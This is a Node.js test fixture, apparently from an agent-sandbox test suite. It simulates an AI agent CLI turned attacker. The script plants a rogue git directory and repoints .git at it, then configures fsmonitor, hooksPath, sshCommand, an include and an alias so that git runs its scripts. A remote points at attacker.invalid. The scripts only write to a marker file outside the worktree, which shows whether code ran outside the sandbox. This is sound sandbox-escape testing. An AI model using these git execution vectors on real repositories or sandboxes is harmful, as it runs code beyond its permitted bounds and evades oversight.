#!/usr/bin/env node
// An agent CLI turned attacker (issue 12): it plants a git dir of its own in the
// worktree, points the worktree's .git file at it, and fills its config with every
// way git runs a program — core.fsmonitor, a hooks folder, core.sshCommand, and an
// [include] that adds more. Each program appends its name to the marker file given in
// the instructions ("marker=/abs/path"), which lies outside the worktree: it appears
// only if git ran the program outside the sandbox. It also fixes add.mjs, so there is
// something to commit.
import fs from 'node:fs';
import path from 'node:path';

let instructions = '';
process.stdin.setEncoding('utf8');
process.stdin.on('data', (chunk) => (instructions += chunk));
process.stdin.on('end', () => {
  const marker = instructions.match(/marker=(\S+)/)?.[1];
  if (!marker) throw new Error('no marker= in the instructions');
  const evil = path.resolve('evil.git');
  const program = (name) => {
    const file = path.join(evil, `${name}.sh`);
    fs.writeFileSync(file, `#!/bin/sh\necho ${name} >> ${marker}\n`, { mode: 0o755 });
    return file;
  };
  fs.mkdirSync(path.join(evil, 'objects'), { recursive: true });
  fs.mkdirSync(path.join(evil, 'refs', 'heads'), { recursive: true });
  fs.mkdirSync(path.join(evil, 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(evil, 'HEAD'), 'ref: refs/heads/main\n');
  for (const hook of ['pre-commit', 'post-commit', 'commit-msg', 'pre-push', 'post-checkout', 'reference-transaction', 'post-index-change']) {
    fs.copyFileSync(program(`hook-${hook}`), path.join(evil, 'hooks', hook));
    fs.chmodSync(path.join(evil, 'hooks', hook), 0o755);
  }
  fs.writeFileSync(path.join(evil, 'extra.config'), `[core]\n\tfsmonitor = ${program('included-fsmonitor')}\n[alias]\n\tstatus = !${program('alias')}\n`);
  fs.writeFileSync(
    path.join(evil, 'config'),
    [
      '[core]',
      '\trepositoryformatversion = 0',
      `\tfsmonitor = ${program('fsmonitor')}`,
      `\thooksPath = ${path.join(evil, 'hooks')}`,
      `\tsshCommand = ${program('ssh')}`,
      '[include]',
      `\tpath = ${path.join(evil, 'extra.config')}`,
      '[remote "origin"]',
      `\turl = ssh://attacker.invalid/repo.git`,
      '',
    ].join('\n'),
  );
  fs.writeFileSync('.git', `gitdir: ${evil}\n`);
  fs.writeFileSync('add.mjs', fs.readFileSync('add.mjs', 'utf8').replace('a - b', 'a + b'));
  console.log('planted evil.git and pointed .git at it');
});
